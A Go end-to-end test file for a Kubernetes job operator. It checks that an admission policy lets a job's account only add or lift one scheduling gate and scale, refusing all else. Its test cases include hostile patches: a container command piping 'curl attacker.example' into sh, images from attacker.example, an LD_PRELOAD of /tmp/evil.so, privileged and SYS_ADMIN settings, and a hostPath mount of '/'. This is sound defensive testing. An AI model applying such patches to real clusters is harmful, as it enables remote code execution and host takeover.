package e2e

import (
	"context"
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes"

	"github.com/tfgen/tfgen/test/harness"
)

// The keeper's strategic merge patches (issue 41): the scheduling gate
// tfgen.io/finished added to and removed from a replica type's pod
// template, and lifted from a pod.
const (
	gateTemplate   = `{"spec":{"template":{"spec":{"schedulingGates":[{"name":"tfgen.io/finished"}]}}}}`
	ungateTemplate = `{"spec":{"template":{"spec":{"schedulingGates":[{"$patch":"delete","name":"tfgen.io/finished"}]}}}}`
	liftPodGate    = `{"spec":{"schedulingGates":[{"$patch":"delete","name":"tfgen.io/finished"}]}}`
)

// finishedGate is the gate those patches carry.
const finishedGate = "tfgen.io/finished"

// outcome is what became of a request.
type outcome string

const (
	allowed  outcome = "allowed"
	byPolicy outcome = "refused by the admission policy"
	byRBAC   outcome = "refused by RBAC"
	byServer outcome = "refused by the API server's validation"
)

// outcomeOf says who refused a request that ended with err, if anyone.
func outcomeOf(err error) outcome {
	switch {
	case err == nil:
		return allowed
	case strings.Contains(err.Error(), "ValidatingAdmissionPolicy"):
		return byPolicy
	case apierrors.IsForbidden(err):
		return byRBAC
	default:
		return byServer
	}
}

// tokenPod makes pod name in ns, running as account, without labels (no
// StatefulSet adopts it) and never scheduled, for a token to be bound to;
// a pod of that name already there (the job's keeper's) is taken as it is.
func tokenPod(t *testing.T, cs kubernetes.Interface, ns, name, account string) *corev1.Pod {
	t.Helper()
	p, err := cs.CoreV1().Pods(ns).Create(t.Context(), &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: name},
		Spec: corev1.PodSpec{ServiceAccountName: account, NodeSelector: map[string]string{"tfgen.test/none": "none"},
			Containers: []corev1.Container{{Name: "main", Image: "tfgen.test/none:1"}}}}, metav1.CreateOptions{})
	if apierrors.IsAlreadyExists(err) {
		p, err = cs.CoreV1().Pods(ns).Get(t.Context(), name, metav1.GetOptions{})
	}
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// templateGates are the names of the scheduling gates of StatefulSet
// ns/name's pod template.
func templateGates(t *testing.T, cs kubernetes.Interface, ns, name string) []string {
	t.Helper()
	sts, err := cs.AppsV1().StatefulSets(ns).Get(t.Context(), name, metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	return gateNames(sts.Spec.Template.Spec.SchedulingGates)
}

func gateNames(gates []corev1.PodSchedulingGate) []string {
	names := []string{}
	for _, g := range gates {
		names = append(names, g.Name)
	}
	return names
}

// statefulSetAttempts are changes of a replica type's StatefulSet the
// job's account may not make, with container the name of its pod
// template's first container: each could run other code, or move,
// resize or relabel the type.
func statefulSetAttempts(container string) []struct{ why, patch string } {
	podSpec := func(s string) string { return `{"spec":{"template":{"spec":` + s + `}}}` }
	inContainer := func(s string) string {
		return podSpec(fmt.Sprintf(`{"containers":[{"name":%q,%s}]}`, container, s))
	}
	return []struct{ why, patch string }{
		{"another gate", podSpec(`{"schedulingGates":[{"name":"example.test/hold"}]}`)},
		{"the gate and another", podSpec(`{"schedulingGates":[{"name":"tfgen.io/finished"},{"name":"example.test/hold"}]}`)},
		{"the gate and an image", podSpec(fmt.Sprintf(`{"schedulingGates":[{"name":"tfgen.io/finished"}],"containers":[{"name":%q,"image":"attacker.example/own:1"}]}`, container))},
		{"a container's image", inContainer(`"image":"attacker.example/own:1"`)},
		{"a container's command", inContainer(`"command":["/bin/sh","-c","curl attacker.example | sh"]`)},
		{"a container's args", inContainer(`"args":["--evil"]`)},
		{"a container's env", inContainer(`"env":[{"name":"LD_PRELOAD","value":"/tmp/evil.so"}]`)},
		{"a container's privileges", inContainer(`"securityContext":{"privileged":true}`)},
		{"a container's capabilities", inContainer(`"securityContext":{"capabilities":{"add":["SYS_ADMIN"]}}`)},
		{"a container's mounts", inContainer(`"volumeMounts":[{"name":"tfgen-token","mountPath":"/stolen"}]`)},
		{"another container", podSpec(`{"containers":[{"name":"evil","image":"attacker.example/own:1"}]}`)},
		{"an init container", podSpec(`{"initContainers":[{"name":"evil","image":"attacker.example/own:1"}]}`)},
		{"a volume", podSpec(`{"volumes":[{"name":"evil","emptyDir":{}}]}`)},
		{"a hostPath volume", podSpec(`{"volumes":[{"name":"evil","hostPath":{"path":"/"}}]}`)},
		{"the service account", podSpec(`{"serviceAccountName":"default"}`)},
		{"the token's automount", podSpec(`{"automountServiceAccountToken":true}`)},
		{"the pod's security context", podSpec(`{"securityContext":{"runAsUser":0}}`)},
		{"the host's network", podSpec(`{"hostNetwork":true}`)},
		{"the host's PIDs", podSpec(`{"hostPID":true}`)},
		{"the host's IPC", podSpec(`{"hostIPC":true}`)},
		{"the host's user namespace", podSpec(`{"hostUsers":false}`)},
		{"a shared process namespace", podSpec(`{"shareProcessNamespace":true}`)},
		{"a runtime class", podSpec(`{"runtimeClassName":"evil"}`)},
		{"image pull secrets", podSpec(`{"imagePullSecrets":[{"name":"stolen"}]}`)},
		{"a node", podSpec(`{"nodeName":"node-1"}`)},
		{"a node selector", podSpec(`{"nodeSelector":{"kubernetes.io/hostname":"node-1"}}`)},
		{"a toleration", podSpec(`{"tolerations":[{"operator":"Exists"}]}`)},
		{"the scheduler", podSpec(`{"schedulerName":"evil"}`)},
		{"host aliases", podSpec(`{"hostAliases":[{"ip":"10.9.8.7","hostnames":["kubernetes.default.svc"]}]}`)},
		{"the grace period", podSpec(`{"terminationGracePeriodSeconds":1}`)},
		{"the template's labels", `{"spec":{"template":{"metadata":{"labels":{"tfgen.test/evil":"1"}}}}}`},
		{"the template's annotations", `{"spec":{"template":{"metadata":{"annotations":{"tfgen.test/evil":"1"}}}}}`},
		{"replicas through the main resource", `{"spec":{"replicas":5}}`},
		{"minReadySeconds", `{"spec":{"minReadySeconds":7}}`},
		{"the StatefulSet's labels", `{"metadata":{"labels":{"training.kubeflow.org/job-name":"beta"}}}`},
		{"the StatefulSet's annotations", `{"metadata":{"annotations":{"tfgen.test/evil":"1"}}}`},
	}
}

// TestAdmissionPolicyStatefulSetGate: the job's Role grants patch on its
// replica types' StatefulSets; with deploy/admission-policy.yaml the
// job's account, with the keeper's token (bound to J-keeper-0) or one
// bound to nothing, may add and remove the gate tfgen.io/finished in its
// own job's pod templates (the keeper's patches), and scale them through
// the scale subresource, and nothing else: not an image, a command, a
// volume, a privilege or any other field (statefulSetAttempts), not with
// a replica's token, not another job's StatefulSet (its Role names it or
// not), not its keeper's own StatefulSet. The StatefulSet is as rendered
// at the end.
func TestAdmissionPolicyStatefulSetGate(t *testing.T) {
	t.Parallel()
	c := getCluster(t)
	cs := c.cp.Client()
	ctx := t.Context()
	ns := harness.Namespace(t, cs, "policy-sts", nil)
	// The pods the StatefulSets make stay Pending (no node).
	for _, spec := range []jobSpec{
		{name: "alpha", replicas: []replica{{kind: "PS", n: 1, policy: "Never"}, {kind: "Worker", n: 2, policy: "Never"}}},
		{name: "beta", replicas: []replica{{kind: "Worker", n: 1, policy: "Never"}}},
	} {
		bins.kubectl.Must(t, c.cp.Kubeconfig(), bins.tfgen.Must(t, spec.manifest(ns), "render", "-f", "-"), "apply", "-n", ns, "-f", "-")
	}
	// alpha-ps, under a name alpha's Role grants, now belongs to job beta.
	if _, err := cs.AppsV1().StatefulSets(ns).Patch(ctx, "alpha-ps", types.MergePatchType,
		[]byte(`{"metadata":{"labels":{"training.kubeflow.org/job-name":"beta"}}}`), metav1.PatchOptions{}); err != nil {
		t.Fatal(err)
	}
	before, err := cs.AppsV1().StatefulSets(ns).Get(ctx, "alpha-worker", metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	keeper := tokenClient(t, c.cp, ns, "alpha-tfjob", tokenPod(t, cs, ns, "alpha-keeper-0", "alpha-tfjob"))
	unbound := tokenClient(t, c.cp, ns, "alpha-tfjob", nil)
	replicaToken := tokenClient(t, c.cp, ns, "alpha-tfjob", tokenPod(t, cs, ns, "alpha-worker-9", "alpha-tfjob"))
	container := before.Spec.Template.Spec.Containers[0].Name
	image := fmt.Sprintf(`{"spec":{"template":{"spec":{"containers":[{"name":%q,"image":"attacker.example/own:1"}]}}}}`, container)
	patch := func(as kubernetes.Interface, name, body string, dryRun bool, sub ...string) error {
		opts := metav1.PatchOptions{}
		if dryRun {
			opts.DryRun = []string{metav1.DryRunAll}
		}
		_, err := as.AppsV1().StatefulSets(ns).Patch(ctx, name, types.StrategicMergePatchType, []byte(body), opts, sub...)
		return err
	}
	// The policy is in force once the API server has loaded it (a dry
	// run goes through admission and changes nothing).
	poll(t, "the StatefulSet admission policy in force", func(ctx context.Context) (bool, string, error) {
		err := patch(keeper, "alpha-worker", image, true)
		return outcomeOf(err) == byPolicy, fmt.Sprint(err), nil
	})

	// The keeper's patches, with either token, one after the other.
	for _, step := range []struct {
		who  string
		as   kubernetes.Interface
		body string
		want []string
	}{
		{"the keeper's token adds the gate", keeper, gateTemplate, []string{finishedGate}},
		{"the keeper's token adds it again", keeper, gateTemplate, []string{finishedGate}},
		{"the keeper's token removes the gate", keeper, ungateTemplate, []string{}},
		{"an unbound token adds the gate", unbound, gateTemplate, []string{finishedGate}},
		{"an unbound token removes the gate", unbound, ungateTemplate, []string{}},
	} {
		if err := patch(step.as, "alpha-worker", step.body, false); err != nil {
			t.Fatalf("%s: %v", step.who, err)
		}
		if got := templateGates(t, cs, ns, "alpha-worker"); !cmp.Equal(got, step.want) {
			t.Fatalf("%s: the template's gates are %v, want %v", step.who, got, step.want)
		}
	}
	// The scale subresource is not the policy's: the keeper still scales.
	for _, n := range []int32{3, *before.Spec.Replicas} {
		if err := patch(keeper, "alpha-worker", fmt.Sprintf(`{"spec":{"replicas":%d}}`, n), false, "scale"); err != nil {
			t.Fatalf("scale alpha-worker to %d with the keeper's token: %v", n, err)
		}
	}

	type attempt struct {
		why, who string
		as       kubernetes.Interface
		name     string
		body     string
		want     outcome
	}
	attempts := []attempt{
		{"the gate", "a replica's token", replicaToken, "alpha-worker", gateTemplate, byPolicy},
		{"the gate", "the keeper's token", keeper, "alpha-ps", gateTemplate, byPolicy},   // another job's, under a name the Role grants
		{"the gate", "the keeper's token", keeper, "beta-worker", gateTemplate, byRBAC},  // another job's
		{"the gate", "the keeper's token", keeper, "alpha-keeper", gateTemplate, byRBAC}, // the keeper's own: its scale only
		{"the gate", "an unbound token", unbound, "beta-worker", gateTemplate, byRBAC},   // another job's
		{"an image", "an unbound token", unbound, "alpha-worker", image, byPolicy},       // without a pod's token
		{"an image", "a replica's token", replicaToken, "alpha-worker", image, byPolicy}, // nor with a replica's
		{"an image", "the keeper's token", keeper, "alpha-ps", image, byPolicy},          // another job's
		{"replicas", "the keeper's token", keeper, "beta-worker", `{"spec":{"replicas":0}}`, byRBAC},
	}
	for _, a := range statefulSetAttempts(container) {
		attempts = append(attempts, attempt{a.why, "the keeper's token", keeper, "alpha-worker", a.patch, byPolicy})
	}
	for _, a := range attempts {
		if got := outcomeOf(patch(a.as, a.name, a.body, false)); got != a.want {
			t.Errorf("%s of StatefulSet %s with %s (%s): %s, want %s", a.why, a.name, a.who, a.body, got, a.want)
		}
	}
	t.Logf("%d changes tried", len(attempts))

	after, err := cs.AppsV1().StatefulSets(ns).Get(ctx, "alpha-worker", metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(before.Spec, after.Spec); diff != "" {
		t.Errorf("StatefulSet alpha-worker's spec changed (-rendered +now):\n%s", diff)
	}
	if diff := cmp.Diff(before.Labels, after.Labels); diff != "" {
		t.Errorf("StatefulSet alpha-worker's labels changed (-rendered +now):\n%s", diff)
	}
	if diff := cmp.Diff(before.Annotations, after.Annotations); diff != "" {
		t.Errorf("StatefulSet alpha-worker's annotations changed (-rendered +now):\n%s", diff)
	}
}

// TestAdmissionPolicyPodGate: with deploy/admission-policy.yaml the job's
// account may lift the gate tfgen.io/finished from its own job's pods:
// with the keeper's token (J-keeper-0) from any of them, with an unbound
// token too, with a replica's token from its own pod only; and nothing
// else in spec: not another gate, not a toleration, a node selector, node
// affinity or a deadline (what an update of a gated pod may change), not
// an image with it; the keeper's token changes nothing else of another
// pod; another job's pod and a pod of no job are refused.
func TestAdmissionPolicyPodGate(t *testing.T) {
	t.Parallel()
	c := getCluster(t)
	cs := c.cp.Client()
	ctx := t.Context()
	ns := harness.Namespace(t, cs, "policy-gate", nil)
	spec := jobSpec{name: "alpha", replicas: []replica{{kind: "Worker", n: 2, policy: "Never"}}}
	bins.kubectl.Must(t, c.cp.Kubeconfig(), bins.tfgen.Must(t, spec.manifest(ns), "render", "-f", "-"), "apply", "-n", ns, "-l", "app.kubernetes.io/component=job", "-f", "-")
	// gated makes a pod gated by tfgen.io/finished and another gate, as
	// the StatefulSet of job would make it, never scheduled.
	gated := func(name, job string) *corev1.Pod {
		labels := map[string]string{"training.kubeflow.org/job-name": job, "training.kubeflow.org/replica-type": "worker"}
		if job == "" {
			labels = map[string]string{"app": "notebook"}
		}
		p, err := cs.CoreV1().Pods(ns).Create(ctx, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: name, Labels: labels},
			Spec: corev1.PodSpec{ServiceAccountName: "alpha-tfjob", NodeSelector: map[string]string{"tfgen.test/none": "none"},
				SchedulingGates: []corev1.PodSchedulingGate{{Name: finishedGate}, {Name: "example.test/hold"}},
				Containers:      []corev1.Container{{Name: "main", Image: "tfgen.test/none:1"}}}}, metav1.CreateOptions{})
		if err != nil {
			t.Fatal(err)
		}
		return p
	}
	keeper := tokenClient(t, c.cp, ns, "alpha-tfjob", tokenPod(t, cs, ns, "alpha-keeper-0", "alpha-tfjob"))
	unbound := tokenClient(t, c.cp, ns, "alpha-tfjob", nil)
	worker0 := tokenClient(t, c.cp, ns, "alpha-tfjob", gated("alpha-worker-0", "alpha"))
	// The policy is in force once the API server has loaded it.
	probe := gated("alpha-probe", "alpha")
	poll(t, "the pod admission policy in force", func(ctx context.Context) (bool, string, error) {
		_, err := keeper.CoreV1().Pods(ns).Patch(ctx, probe.Name, types.StrategicMergePatchType,
			[]byte(`{"metadata":{"annotations":{"tfgen.test/a":"1"}}}`), metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
		return outcomeOf(err) == byPolicy, fmt.Sprint(err), nil
	})

	n := 0
	for _, tc := range []struct {
		why, who string
		as       kubernetes.Interface
		job      string // of the pod; "" none
		own      bool   // the pod worker0's token is bound to
		body     string
		want     outcome
	}{
		{"lift the gate", "the keeper's token", keeper, "alpha", false, liftPodGate, allowed},
		{"lift the gate", "an unbound token", unbound, "alpha", false, liftPodGate, allowed},
		{"lift the gate of its own pod", "a replica's token", worker0, "alpha", true, liftPodGate, allowed},
		{"lift the gate of another pod", "a replica's token", worker0, "alpha", false, liftPodGate, byPolicy},
		{"lift the gate of another job's pod", "the keeper's token", keeper, "beta", false, liftPodGate, byPolicy},
		{"lift the gate of a pod of no job", "an unbound token", unbound, "", false, liftPodGate, byPolicy},
		{"lift another gate", "the keeper's token", keeper, "alpha", false, `{"spec":{"schedulingGates":[{"$patch":"delete","name":"example.test/hold"}]}}`, byPolicy},
		{"lift every gate", "an unbound token", unbound, "alpha", false, `{"spec":{"schedulingGates":null}}`, byPolicy},
		{"lift the gate and change an image", "an unbound token", unbound, "alpha", false,
			`{"spec":{"schedulingGates":[{"$patch":"delete","name":"tfgen.io/finished"}],"containers":[{"name":"main","image":"attacker.example/own:1"}]}}`, byPolicy},
		{"lift the gate and annotate another pod", "the keeper's token", keeper, "alpha", false,
			`{"metadata":{"annotations":{"tfgen.io/state":"Succeeded"}},"spec":{"schedulingGates":[{"$patch":"delete","name":"tfgen.io/finished"}]}}`, byPolicy},
		{"annotate another pod", "the keeper's token", keeper, "alpha", false, `{"metadata":{"annotations":{"tfgen.io/state":"Succeeded"}}}`, byPolicy},
		{"add a toleration", "an unbound token", unbound, "alpha", false, `[{"op":"add","path":"/spec/tolerations/-","value":{"operator":"Exists"}}]`, byPolicy},
		{"add a node selector to a gated pod", "an unbound token", unbound, "alpha", false, `{"spec":{"nodeSelector":{"kubernetes.io/hostname":"node-1"}}}`, byPolicy},
		{"add node affinity to a gated pod", "an unbound token", unbound, "alpha", false,
			`{"spec":{"affinity":{"nodeAffinity":{"requiredDuringSchedulingIgnoredDuringExecution":{"nodeSelectorTerms":[{"matchExpressions":[{"key":"kubernetes.io/hostname","operator":"In","values":["node-1"]}]}]}}}}}`, byPolicy},
		{"set a deadline", "an unbound token", unbound, "alpha", false, `{"spec":{"activeDeadlineSeconds":1}}`, byPolicy},
		{"add a gate", "an unbound token", unbound, "alpha", false, `{"spec":{"schedulingGates":[{"name":"example.test/more"}]}}`, byServer}, // Kubernetes allows removals only
	} {
		name := "alpha-worker-0"
		if !tc.own {
			n++
			name = gated(fmt.Sprintf("gated-%d", n), tc.job).Name
		}
		pt := types.StrategicMergePatchType
		if strings.HasPrefix(tc.body, "[") {
			pt = types.JSONPatchType // appends to a list strategic merge would replace
		}
		_, err := tc.as.CoreV1().Pods(ns).Patch(ctx, name, pt, []byte(tc.body), metav1.PatchOptions{})
		if got := outcomeOf(err); got != tc.want {
			t.Errorf("%s with %s (%s): %s (%v), want %s", tc.why, tc.who, tc.body, got, err, tc.want)
			continue
		}
		now, err := cs.CoreV1().Pods(ns).Get(ctx, name, metav1.GetOptions{})
		if err != nil {
			t.Fatal(err)
		}
		want := []string{finishedGate, "example.test/hold"}
		if tc.want == allowed {
			want = want[1:]
		}
		if got := gateNames(now.Spec.SchedulingGates); !cmp.Equal(got, want) {
			t.Errorf("%s with %s: pod %s's gates are %v, want %v", tc.why, tc.who, name, got, want)
		}
	}
}
